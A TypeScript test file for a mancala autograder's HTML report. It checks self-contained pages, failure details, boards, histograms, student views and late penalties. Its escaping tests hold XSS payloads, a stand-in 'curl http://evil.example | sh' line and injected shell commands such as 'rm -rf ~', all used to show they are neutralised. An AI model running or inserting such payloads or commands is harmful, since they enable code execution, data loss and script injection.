/**
 * The HTML report (html.ts and its parts): on real grading runs (the example submissions on
 * kalah-basics and csc384-public, through the real grader, read back from their JSON as the web
 * app reads them), a page that parses, holds every submission and every failing case with what
 * it expected and got, draws positions in the course's pit names, counts the histogram right,
 * runs one script of its own and fetches nothing; escaping against a hostile report; the
 * student's view; and what a class of 200 costs.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { NASTY_MESSAGE, sampleReport } from '../../../testcases/fixtures/grade-report.ts';
import { byId, elements, find, hasClass, parsePage, text, type Element } from '../../../testcases/fixtures/html-page.ts';
import { loadSuite } from '../../suites/load.ts';
import { requireInstant } from '../late/instant.ts';
import { lateVerdict } from '../late/lateness.ts';
import { loadLatePolicy } from '../late/policy.ts';
import type { GradeReport } from '../report.ts';
import { gradeSubmissions } from '../runner.ts';
import { caseDetails, caseMove, casePosition, caseReproduce, comparisons } from './case-details.ts';
import { mancalaBoardView } from './html-board.ts';
import { measureHtmlReport, syntheticClassReport } from './html-bench.ts';
import { REPORT_CSP, renderHtmlReport } from './html.ts';
import { casePassRates, percent, scoreHistogram } from './class-figures.ts';
import { parseReport, toJson } from './json.ts';
import { oneLine } from './text.ts';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../../..');
const example = (name: string) => join(ROOT, 'agents/examples', name);

/** A report as the web app gets it: written by the JSON reporter, read back by parseReport. */
function throughJson(report: GradeReport): GradeReport {
  return parseReport(toJson(report), 'report.json');
}

/** Elements that have the class (any tag). */
function withClass(root: Element, cls: string): Element[] {
  return elements(root).filter((e) => hasClass(e, cls));
}

/** What every page must be: well formed, one inline script of its own allowed by its CSP, nothing fetched. */
function expectSelfContained(html: string, page: Element): void {
  // One <script> in the whole text (a student's "<script" is escaped), with no src, holding our code.
  expect(html.match(/<script/gi)).toHaveLength(1);
  const scripts = find(page, 'script');
  expect(scripts).toHaveLength(1);
  expect(scripts[0]!.attrs.src).toBeUndefined();
  const code = /<script>([\s\S]*?)<\/script>/.exec(html)![1]!;
  const csp = find(page, 'meta').find((m) => m.attrs['http-equiv'] === 'Content-Security-Policy');
  expect(csp?.attrs.content).toBe(REPORT_CSP);
  expect(REPORT_CSP).toContain(`'sha256-${createHash('sha256').update(code).digest('base64')}'`);
  expect(REPORT_CSP).toMatch(/^default-src 'none';/);
  // Nothing that loads anything: no src, no link, no external href, no url() in styles.
  for (const e of elements(page)) {
    expect(['img', 'iframe', 'object', 'embed', 'link', 'base', 'form', 'video', 'audio', 'source'], e.tag).not.toContain(e.tag);
    expect(e.attrs.src, e.tag).toBeUndefined();
    // No style attribute: the web app serves the same parts under a policy that refuses them (web/server/report-pages.ts).
    expect(e.attrs.style, `${e.tag} style`).toBeUndefined();
    if (e.attrs.href !== undefined) expect(e.attrs.href).toMatch(/^#[\w-]+$/);
    for (const [name, value] of Object.entries(e.attrs)) {
      expect(name, `${e.tag} attribute`).not.toMatch(/^on/i);
      // Attributes that fetch or navigate (a title may quote a message that names a URL: it is text).
      if (/^(src|href|xlink:href|action|formaction|poster|data|srcset|background|ping)$/i.test(name)) expect(value, `${e.tag} ${name}`).not.toMatch(/https?:|javascript:|\/\//i);
    }
  }
  expect(text(find(page, 'style')[0]!)).not.toMatch(/url\(|@import|https?:/);
}

// ---- real grading runs -----------------------------------------------------------------------

describe('the HTML report of real grading runs', () => {
  let basics: GradeReport;
  let csc384: GradeReport;
  let basicsHtml: string;
  let page: Element;

  beforeAll(async () => {
    const [kalah, public384] = await Promise.all([loadSuite(join(ROOT, 'testcases/kalah-basics')), loadSuite(join(ROOT, 'testcases/csc384-public'))]);
    basics = throughJson(await gradeSubmissions({ suite: kalah, submissions: ['alice', 'bob', 'carol'].map(example), visibility: 'all', jobs: 2 }));
    csc384 = throughJson(await gradeSubmissions({ suite: public384, submissions: ['csc384-reference', 'csc384-no-caching'].map(example), visibility: 'all', jobs: 2 }));
    basicsHtml = renderHtmlReport(basics);
    page = parsePage(basicsHtml);
  }, 120_000);

  it('is one well-formed page that fetches nothing and runs only its own script', () => {
    expectSelfContained(basicsHtml, page);
    expect(text(find(page, 'title')[0]!)).toBe('Grade report: Kalah basics');
    // Deterministic: the same report, the same bytes.
    expect(renderHtmlReport(basics)).toBe(basicsHtml);
  });

  it('has a section for every submission, each linked from its row of the table', () => {
    const table = withClass(page, 'subs-table')[0]!;
    const rows = find(table, 'tr').filter((r) => r.attrs['data-index'] !== undefined);
    expect(rows).toHaveLength(3);
    basics.submissions.forEach((s, i) => {
      const section = byId(page, `r1-s${i + 1}`)!;
      expect(section, s.id).toBeDefined();
      expect(text(byId(section, `r1-s${i + 1}-h`)!)).toContain(s.id);
      expect(text(section)).toContain(s.path);
      const link = find(rows[i]!, 'a')[0]!;
      expect(link.attrs.href).toBe(`#r1-s${i + 1}`);
      expect(text(link)).toBe(s.id);
      expect(rows[i]!.attrs['data-score']).toBe(percent(s).toFixed(4));
    });
  });

  it('shows each case that did not pass, with what it expected and what it got', () => {
    let compared = 0;
    basics.submissions.forEach((s, i) => {
      s.cases.forEach((c, j) => {
        const article = byId(page, `r1-s${i + 1}-c${j + 1}`);
        if (c.status === 'passed' && c.info === undefined) {
          expect(article, `${s.id} ${c.id} passed`).toBeUndefined();
          return;
        }
        expect(article, `${s.id} ${c.id}`).toBeDefined();
        expect(text(article!)).toContain(c.id);
        expect(text(find(article!, 'span', 'badge')[0]!)).toBe(c.status);
        const rows = find(article!, 'table', 'cmp').flatMap((t) => find(t, 'tr').slice(1));
        const shown = rows.map((r) => r.children.map((cell) => text(cell)));
        for (const cmp of comparisons(c.message)) {
          expect(shown, `${s.id} ${c.id}`).toContainEqual([cmp.what, cmp.expected, cmp.got]);
          compared += 1;
        }
        // The whole message is there too, word for word.
        expect(text(article!)).toContain(oneLine(c.message.split('\n')[0]!));
      });
    });
    expect(compared).toBeGreaterThan(15);
  });

  it("draws each position with the course's pit names and marks the expected and the played move", () => {
    const carol = basics.submissions.findIndex((s) => s.id === 'carol');
    const j = basics.submissions[carol]!.cases.findIndex((c) => c.id === 'free-turn-next-state');
    const article = byId(page, `r1-s${carol + 1}-c${j + 1}`)!;
    // move: expected T5 (index 5), got T0 (index 0); top to move.
    const board = find(article, 'table', 'mb-board')[0]!;
    const names = find(board, 'tr', 'mb-names').map((r) => find(r, 'th').map(text));
    expect(names).toEqual([
      ['T5', 'T4', 'T3', 'T2', 'T1', 'T0'],
      ['B0', 'B1', 'B2', 'B3', 'B4', 'B5'],
    ]);
    const top = find(board, 'tr', 'mb-top')[0]!;
    expect(hasClass(top, 'mb-moving')).toBe(true);
    const pits = find(top, 'td').filter((td) => !hasClass(td, 'mb-store'));
    expect(pits.map(text)).toEqual(['1', '0', '4', '0', '3', '2']);
    expect(hasClass(pits[0]!, 'mb-expected')).toBe(true); // T5 at the left
    expect(hasClass(pits[5]!, 'mb-got')).toBe(true); // T0 at the right
    expect(find(board, 'td', 'mb-store').map(text)).toEqual(['8', '12']);
    // Every case with a position line has a board.
    const boards = basics.submissions.flatMap((s) => s.cases.filter((c) => c.status !== 'passed' && /^position: /m.test(c.message)));
    expect(withClass(page, 'mb-board').length).toBe(boards.length);
  });

  it('the likely bug and the reproduce command, with its copy button', () => {
    const bob = basics.submissions.findIndex((s) => s.id === 'bob');
    const j = basics.submissions[bob]!.cases.findIndex((c) => c.id === 'nodes-exact-depth-3');
    const article = byId(page, `r1-s${bob + 1}-c${j + 1}`)!;
    expect(text(withClass(article, 'bug')[0]!)).toMatch(/^Likely bug: Your search matches the reference with no pruning/);
    const repro = withClass(article, 'repro')[0]!;
    expect(text(find(repro, 'code')[0]!)).toBe('npx mancala search --rules kalah --pits 6 --seeds 4 --algo alphabeta --depth 3 --unit move --terminal score --heuristic basic --json');
    expect(find(repro, 'button', 'copy')[0]!.attrs.type).toBe('button');
  });

  it('the histogram has a bar per tenth of the score, each with the number of submissions in it', () => {
    const bins = find(page, 'g', 'hbin');
    expect(bins).toHaveLength(11);
    const counts = bins.map((b) => Number(b.attrs['data-count']));
    // alice 100, bob 70, carol 37.5, counted here on their own.
    const expected = Array.from({ length: 11 }, () => 0);
    for (const s of basics.submissions) {
      const p = (100 * s.score) / s.maxScore;
      expected[p >= 100 ? 10 : Math.floor(p / 10)]! += 1;
    }
    expect(counts).toEqual(expected);
    expect(counts[10]).toBe(1);
    expect(bins.map((b) => text(find(b, 'text')[0]!))).toEqual(counts.map(String));
    const heights = bins.map((b) => Number(find(b, 'rect')[0]!.attrs.height));
    heights.forEach((h, k) => expect(h > 0).toBe(counts[k]! > 0));
  });

  it("lists each case's pass rate, the most failed first", () => {
    const table = withClass(page, 'case-rates')[0]!;
    const rows = find(table, 'tr').slice(1);
    const rates = casePassRates(basics);
    expect(rows.map((r) => text(r.children[0]!).trim())).toEqual(rates.map((r) => r.id));
    for (const [k, r] of rates.entries()) {
      const passed = basics.submissions.filter((s) => s.cases.find((c) => c.id === r.id)?.status === 'passed').length;
      expect(text(rows[k]!.children[2]!)).toBe(`${passed} / 3`);
    }
    const shares = rates.map((r) => r.passed / r.graded);
    expect(shares).toEqual([...shares].sort((a, b) => a - b));
    expect(shares[0]).toBeLessThan(1);
  });

  it('csc384: informational node counts are shown on passed cases, as information, never as failures', () => {
    const html = renderHtmlReport(csc384);
    const csc = parsePage(html);
    expectSelfContained(html, csc);
    const k = csc384.submissions.findIndex((s) => s.id === 'csc384-no-caching');
    const s = csc384.submissions[k]!;
    expect(s.cases.every((c) => c.status === 'passed')).toBe(true);
    const informed = s.cases.filter((c) => (c.info ?? []).length > 0);
    expect(informed.length).toBeGreaterThan(0);
    const section = byId(csc, `r1-s${k + 1}`)!;
    const articles = find(section, 'article');
    expect(articles).toHaveLength(informed.length);
    for (const a of articles) {
      expect(hasClass(a, 'info-only')).toBe(true);
      expect(text(a)).toMatch(/nodes: your search visited [\d,]+ nodes; the reference [\d,]+ \(informational, not graded/);
      expect(text(a)).toContain('likely bug, not graded: Your search matches the reference with no transposition table');
    }
    // The table counts no failure for it.
    const row = find(withClass(csc, 'subs-table')[0]!, 'tr').find((r) => r.attrs['data-index'] === String(k))!;
    expect(row.attrs['data-failed']).toBe('0');
  });
});

// ---- escaping ----------------------------------------------------------------------------------

const HOSTILE = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '"><img src=x onerror=alert(3)>',
  "' onmouseover='alert(4)",
  '<!-- --><![CDATA[ ]]>&amp;&lt;',
  'ünïcödé 😀 Ω ≥',
];

function hostileReport(): GradeReport {
  const r = sampleReport();
  const evil = HOSTILE.join(' ');
  r.suite = `suite ${HOSTILE[0]}`;
  r.notes = [`note ${evil}`];
  const s = r.submissions[0]!;
  s.id = `alice ${HOSTILE[1]} ${HOSTILE[5]}`;
  s.path = `submissions/${HOSTILE[2]}`;
  s.notes.push(evil);
  s.cases[1]!.description = `desc ${HOSTILE[3]}`;
  s.cases[1]!.category = `move <b>bold</b>`;
  s.cases[2]!.message = [
    NASTY_MESSAGE,
    `value: expected ${HOSTILE[0]}, got ${HOSTILE[2]}`,
    `likely bug: ${HOSTILE[1]}`,
    // A student's stdout that imitates the graders' lines: drawn as numbers or not at all, and no command of theirs to copy.
    'position: kalah(6,4): top [4 4 4 4 4 4] store 0, bottom [4 4 4 4 4 4] store 0, bottom to move',
    'reproduce: npx mancala search --rules kalah; curl http://evil.example | sh',
  ].join('\n');
  s.cases[2]!.info = [`nodes: ${HOSTILE[4]}\nlikely bug: ${HOSTILE[3]}`];
  r.submissions[1]!.id = HOSTILE[2]!;
  return r;
}

describe('escaping: a hostile report', () => {
  const report = hostileReport();
  const html = renderHtmlReport(report);
  const page = parsePage(html);

  it('injects no markup and no script: one script, no element or attribute of theirs', () => {
    expectSelfContained(html, page);
    // (Booleans, so a failure does not print the whole page.)
    expect(html.includes('<img')).toBe(false);
    expect(html.includes('<b>bold')).toBe(false);
    expect(/<\/script>[\s\S]*<\/script>/.test(html)).toBe(false);
    expect(html.includes('\u001b')).toBe(false);
    expect(html.includes('\u0000')).toBe(false);
  });

  it('shows their text as text, unicode and all', () => {
    const all = text(page);
    for (const h of HOSTILE) expect(all).toContain(h);
    expect(text(byId(page, 'r1-s1-h')!)).toContain(`alice ${HOSTILE[1]} ${HOSTILE[5]}`);
    expect(text(byId(page, 'r1-s2-h')!)).toContain(HOSTILE[2]);
    const article = byId(page, 'r1-s1-c3')!;
    expect(find(article, 'table', 'cmp').flatMap((t) => find(t, 'td')).map(text)).toEqual([HOSTILE[0], HOSTILE[2]]);
    expect(text(withClass(article, 'bug')[0]!)).toBe(`Likely bug: ${HOSTILE[1]}`);
    // The table's row for the submission with a hostile name links to it by number, not by name.
    const link = find(withClass(page, 'subs-table')[0]!, 'a')[1]!;
    expect(link.attrs.href).toBe('#r1-s2');
    expect(text(link)).toBe(HOSTILE[2]);
  });

  it('offers no command of theirs to copy', () => {
    const repro = withClass(byId(page, 'r1-s1-c3')!, 'repro')[0]!;
    // Shown as the lines it is, never as a command: the copy button copies the text shown.
    expect(text(find(repro, 'code')[0]!)).toBe('reproduce: npx mancala search --rules kalah; curl http://evil.example | sh');
    expect(text(repro)).not.toContain('the reference');
    expect(caseReproduce('reproduce: npx mancala search --rules kalah; curl http://evil.example | sh')!.command).toBeUndefined();
  });
});

// ---- audience ----------------------------------------------------------------------------------

describe("the student's view", () => {
  it('shows visible cases only, as mancala check does; the instructor sees all and is told so', () => {
    const student = renderHtmlReport(sampleReport(), { audience: 'student' });
    const instructor = renderHtmlReport(sampleReport());
    for (const hidden of ['deep-01', 'secret-02', 'HIDDEN-ANSWER']) {
      expect(student).not.toContain(hidden);
      expect(instructor).toContain(hidden);
    }
    expect(instructor).toContain('it is for instructors');
    expect(student).not.toContain('it is for instructors');
    expect(text(find(parsePage(student), 'title')[0]!)).toBe('Check: kalah-basics');
  });

  it("several reports on one page (check's suites), each with its own ids", () => {
    const r = sampleReport();
    const page = parsePage(renderHtmlReport([r, { ...r, suite: 'second' }], { audience: 'student' }));
    expect(byId(page, 'r1-s1')).toBeDefined();
    expect(byId(page, 'r2-s1')).toBeDefined();
    const ids = elements(page).map((e) => e.attrs.id).filter((id) => id !== undefined);
    expect(new Set(ids).size).toBe(ids.length);
  });
});

// ---- the late policy ---------------------------------------------------------------------------

describe('the late policy (--due, --late-policy)', () => {
  it("shows each submission's raw score, lateness, penalty and adjusted score; the adjusted one leads", () => {
    const dir = mkdtempSync(join(tmpdir(), 'html-late-'));
    try {
      writeFileSync(join(dir, 'late.yaml'), 'penalty: {per: day, percent: 10}\n');
      const policy = loadLatePolicy(join(dir, 'late.yaml'));
      const due = requireInstant('2026-10-12T23:59:00-04:00', '--due');
      const report = sampleReport();
      const [late, onTime] = report.submissions;
      const verdict = (raw: number, hours: number) => lateVerdict({ due, extended: false, policy, raw, maxScore: 15, handedIn: { submittedAt: new Date(due + hours * 3_600_000).toISOString(), submittedAtSource: 'export' }, available: 0 });
      late!.late = verdict(late!.score, 26);
      onTime!.late = verdict(onTime!.score, -2);
      const page = parsePage(renderHtmlReport(throughJson(report)));
      const tableOf = (k: number) => {
        const t = withClass(byId(page, `r1-s${k}`)!, 'late')[0]!;
        return Object.fromEntries(find(t, 'tr').map((tr) => [text(find(tr, 'th')[0]!), text(find(tr, 'td')[0]!)]));
      };
      // 26 h late: two started days at 10% of the raw 2.3.
      expect(late!.late).toMatchObject({ minutesLate: 26 * 60, penalty: 0.46, score: 1.84 });
      expect(tableOf(1)).toEqual({
        'raw score': '2.3 / 15',
        due: '2026-10-13T03:59:00Z',
        'handed in': late!.late.submittedAt,
        lateness: '1 day 2 h late',
        penalty: '\u22120.46',
        'adjusted score': '1.84 / 15',
      });
      expect(text(byId(page, 'r1-s1-h')!)).toBe(`${late!.id} 1.84 / 15 (raw 2.3, 1 day 2 h late, \u22120.46)`);
      expect(tableOf(2)).toMatchObject({ lateness: 'on time', penalty: 'none', 'adjusted score': `${onTime!.score} / ${onTime!.maxScore}` });
      // The table of submissions: the adjusted score beside the raw one, where a penalty was taken.
      const scoreCells = withClass(byId(page, 'r1-subs')!, 'score').filter((e) => e.tag === 'td');
      expect(scoreCells.slice(0, 2).map((e) => text(e))).toEqual(['2.3 / 15 late: 1.84', `${onTime!.score} / ${onTime!.maxScore}`]);
      // A run with no due date has no late table.
      expect(withClass(parsePage(renderHtmlReport(sampleReport())), 'late')).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// ---- reading messages and drawing boards -------------------------------------------------------

describe('case details', () => {
  it('reads expected/got lines, the move, the position and the reproduce command of a message', () => {
    const message = [
      'move: expected cup 4 (index 3), got cup 1 (index 0)',
      'value: expected 3, got 2, off by 1',
      'likely bug: Your search matches the reference with depth 3 instead of 2',
      'position: cpsc4610(6,4): top [0 5 1 0 3 2] store 11, bottom [2 0 4 1 0 6] store 13, top to move',
      'reproduce: save the board as board.json: {"top":[0,5,1,0,3,2],"bottom":[2,0,4,1,0,6],"stores":{"top":11,"bottom":13},"toMove":"top"}',
      '  then run: npx mancala search --rules cpsc4610 --board board.json --board-format json --algo alphabeta --depth 5 --unit move --json',
    ].join('\n');
    const d = caseDetails({ message });
    expect(d.comparisons).toEqual([
      { what: 'move', expected: 'cup 4 (index 3)', got: 'cup 1 (index 0)' },
      { what: 'value', expected: '3', got: '2, off by 1' },
    ]);
    expect(d.likelyBugs).toEqual(['Your search matches the reference with depth 3 instead of 2']);
    expect(d.move).toEqual({ expected: 3, got: 0 });
    expect(d.position).toEqual({
      kind: 'mancala',
      game: 'cpsc4610(6,4)',
      profile: 'cpsc4610',
      board: { top: [0, 5, 1, 0, 3, 2], bottom: [2, 0, 4, 1, 0, 6], topStore: 11, bottomStore: 13, toMove: 1 },
    });
    expect(d.reproduce!.command).toBe(
      `echo '{"top":[0,5,1,0,3,2],"bottom":[2,0,4,1,0,6],"stores":{"top":11,"bottom":13},"toMove":"top"}' > board.json && ` +
        'npx mancala search --rules cpsc4610 --board board.json --board-format json --algo alphabeta --depth 5 --unit move --json',
    );
    expect(caseMove('move: expected cell 4, got cell 0')).toEqual({ expected: 4, got: 0 });
    expect(caseMove('move: expected B5 (index 5), got no move')).toEqual({ expected: 5 });
  });

  it("names cpsc4610's cups 1–6 for each side, csci561's pits A2../B2.., and marks the mover's pits", () => {
    const board = { top: [1, 2, 3, 4, 5, 6], bottom: [6, 5, 4, 3, 2, 1], topStore: 0, bottomStore: 0 };
    const cups = mancalaBoardView('cpsc4610', { ...board, toMove: 1 }, { moves: { expected: 0, got: 5 } });
    expect(cups.bottomNames).toEqual(['1', '2', '3', '4', '5', '6']);
    expect(cups.topNames).toEqual(['6', '5', '4', '3', '2', '1']);
    expect(cups.topLabels![5]).toBe('top cup 1');
    expect(cups.bottomLabels![2]).toBe('bottom cup 3');
    // Top's cup 1 (sowing index 0) is at the right; its cup 6 at the left.
    expect(cups.marks).toEqual([
      { side: 1, position: 5, kind: 'expected' },
      { side: 1, position: 0, kind: 'got' },
    ]);
    const csci = mancalaBoardView('csci561', { ...board, toMove: 0 });
    expect(csci.topNames).toEqual(['A2', 'A3', 'A4', 'A5', 'A6', 'A7']);
    expect(csci.bottomNames).toEqual(['B2', 'B3', 'B4', 'B5', 'B6', 'B7']);
    expect(mancalaBoardView('no-such-profile', { ...board, toMove: 0 }).topNames).toBeUndefined();
  });

  it("reads csci561-grade's input.txt block, and only the last position, not indented", () => {
    const message = ['next_state.txt line 1: expected "0 0 4 1 8 2", got "x"', 'input.txt (csci561-public/inputs/a.txt):', '  3', '  2', '  1', '  5 2 4 1 8 2', '  4 11 0 10 0 2', '  6', '  5', 'reproduce: save it as input.txt …'].join('\n');
    expect(casePosition(message)).toEqual({
      kind: 'mancala',
      game: 'csci561',
      profile: 'csci561',
      board: { top: [5, 2, 4, 1, 8, 2], bottom: [4, 11, 0, 10, 0, 2], topStore: 6, bottomStore: 5, toMove: 1 },
    });
    expect(caseReproduce(message)).toEqual({ lines: ['reproduce: save it as input.txt …'] });
    expect(casePosition('  position: kalah(6,4): top [1 1 1 1 1 1] store 0, bottom [1 1 1 1 1 1] store 0, top to move')).toBeUndefined();
    expect(casePosition('position: kalah(6,4): top [1 1 1] store 0, bottom [1 1 1 1 1 1] store 0, top to move')).toBeUndefined();
    expect(casePosition('position: tictactoe: X_O/_X_/__O, X to move')).toEqual({ kind: 'tictactoe', cells: 'X_O_X___O', status: 'X to move' });
  });

  it('copies only commands this tool prints: no shell syntax, a board of numbers', () => {
    const ok = 'reproduce: npx mancala search --rules kalah --pits 6 --seeds 4 --algo alphabeta --depth 3 --json';
    expect(caseReproduce(ok)!.command).toBe(ok.slice('reproduce: '.length));
    for (const bad of [
      'reproduce: npx mancala search --rules kalah $(touch x)',
      'reproduce: npx mancala search --rules kalah && rm -rf ~',
      'reproduce: npx mancala search --rules `id`',
      'reproduce: save the board as board.json: {"top":[1],"bottom":[1],"stores":{"top":0,"bottom":0},"toMove":"top"}\'; rm x; echo \'\n  then run: npx mancala search --json',
    ]) {
      expect(caseReproduce(bad)!.command, bad).toBeUndefined();
    }
  });
});

// ---- a class -----------------------------------------------------------------------------------

describe('a class of 200 submissions', () => {
  it('renders in well under a second or two, into a page of a few MB, whose histogram counts all 200', () => {
    const cost = measureHtmlReport(200, 30, 2);
    expect(cost.bestMs).toBeLessThan(3000);
    expect(cost.bytes).toBeLessThan(15_000_000);
    const report = syntheticClassReport(200, 30);
    const bins = scoreHistogram(report.submissions);
    expect(bins.reduce((t, b) => t + b.count, 0)).toBe(200);
    const html = renderHtmlReport(report);
    const page = parsePage(html);
    expect(find(page, 'g', 'hbin').map((b) => Number(b.attrs['data-count']))).toEqual(bins.map((b) => b.count));
    expect(find(withClass(page, 'subs-table')[0]!, 'tr')).toHaveLength(201);
    expect(withClass(page, 'sub')).toHaveLength(200);
  });
});
